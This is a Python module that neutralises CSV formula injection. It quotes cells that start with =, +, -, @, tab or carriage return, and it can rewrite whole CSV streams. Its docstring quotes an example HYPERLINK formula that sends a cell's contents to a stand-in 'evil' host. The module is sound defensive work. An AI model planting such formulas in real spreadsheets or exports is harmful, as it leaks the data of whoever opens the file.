"""CSV cells that a spreadsheet will not run as formulas (OWASP "CSV Injection").

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: `=HYPERLINK("http://evil/?"&A1, "click")` in an article's title or
URL would run when an analyst opens the export. OWASP's remedy, applied here: prefix such a cell
with a single quote, so it shows as text. A plain number ("-12", "+3.5", "-1e5") is left alone: it
is no formula, and coordinates and counts must stay numbers.

`safe_cell` is the one rule; every CSV the project writes goes through it (`eventwire extract` and
`places --format csv`, `events --format csv` and `--format acled`), and `CsvNeutraliser` applies it
to a CSV stream written by someone else (Datasette's `.csv` of any table or query).
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_UNQUOTED_END = re.compile(r"[,\r\n]")


def is_formula(value: str) -> bool:
    """Whether a spreadsheet would read the cell as a formula."""
    return bool(value) and value[0] in FORMULA_TRIGGERS and not _NUMBER.fullmatch(value)


def safe_cell(value: str) -> str:
    """The cell, prefixed with a single quote when it would otherwise be a formula."""
    return "'" + value if is_formula(value) else value


class CsvNeutraliser:
    """Rewrites a CSV stream (RFC 4180, comma-separated, as Python's csv module writes) chunk by chunk.

    Every field is passed through unchanged except one that `is_formula`, which gets the quote
    prefix (inside its quotes when it is quoted). Only a field that starts with a trigger character
    is held back until its end; the rest streams straight through, so memory is one cell at most.
    """

    def __init__(self) -> None:
        self._state = "start"
        self._held: list[str] = []  # the raw text of a field that starts with a trigger

    def feed(self, text: str) -> str:
        """The rewritten text for this chunk (fields cut by the chunk's end come out with a later chunk)."""
        out: list[str] = []
        i, n = 0, len(text)
        while i < n:
            i = self._step(text, i, out)
        return "".join(out)

    def close(self) -> str:
        """The rest of the stream: a field still held back when the stream ended."""
        out: list[str] = []
        if self._state == "hold":
            out.append(safe_cell("".join(self._held)))
        elif self._state in ("hold_quoted", "hold_quote"):
            out.append(self._quoted_field()[1:])  # the opening quote went out already
        elif self._state == "quote":
            out.append('"')
        self._held.clear()
        self._state = "start"
        return "".join(out)

    def _step(self, text: str, i: int, out: list[str]) -> int:
        state, char = self._state, text[i]
        if state == "start":
            if char == '"':
                self._state = "quote_open"
                out.append(char)
            elif char in ",\r\n":  # an empty field; a CR here ends the record (a CR in a cell is quoted)
                out.append(char)
            elif char in FORMULA_TRIGGERS:
                self._state = "hold"
                self._held.append(char)
            else:
                self._state = "pass"
                out.append(char)
            return i + 1
        if state == "quote_open":  # the first character inside the quotes decides
            if char in FORMULA_TRIGGERS:
                self._state = "hold_quoted"
                self._held.append(char)
            elif char == '"':  # an empty field's closing quote, or an escaped quote: the next character says
                self._state = "quote"
            else:
                self._state = "quoted"
                out.append(char)
            return i + 1
        if state in ("pass", "hold"):
            match = _UNQUOTED_END.search(text, i)
            end = match.start() if match else len(text)
            (self._held if state == "hold" else out).append(text[i:end])
            if match:
                if state == "hold":
                    out.append(safe_cell("".join(self._held)))
                    self._held.clear()
                out.append(match.group())
                self._state = "start"
                return end + 1
            return end
        return self._step_quoted(text, i, out)

    def _step_quoted(self, text: str, i: int, out: list[str]) -> int:
        state, char = self._state, text[i]
        holding = state.startswith("hold")
        sink = self._held if holding else out
        if state in ("quoted", "hold_quoted"):
            end = text.find('"', i)
            if end < 0:
                sink.append(text[i:])
                return len(text)
            sink.append(text[i:end])
            self._state = "hold_quote" if holding else "quote"
            return end + 1
        # After a quote inside a quoted field: a second quote is an escaped one, anything else ends it.
        if char == '"':
            sink.append('""')
            self._state = "hold_quoted" if holding else "quoted"
            return i + 1
        if holding:
            out.append(self._quoted_field()[1:])  # the opening quote went out already
            self._held.clear()
        else:
            out.append('"')
        self._state = "start" if char in ",\r\n" else "pass"
        out.append(char)
        return i + 1

    def _quoted_field(self) -> str:
        raw = "".join(self._held)
        value = raw.replace('""', '"')
        return '"' + ("'" if is_formula(value) else "") + raw + '"'
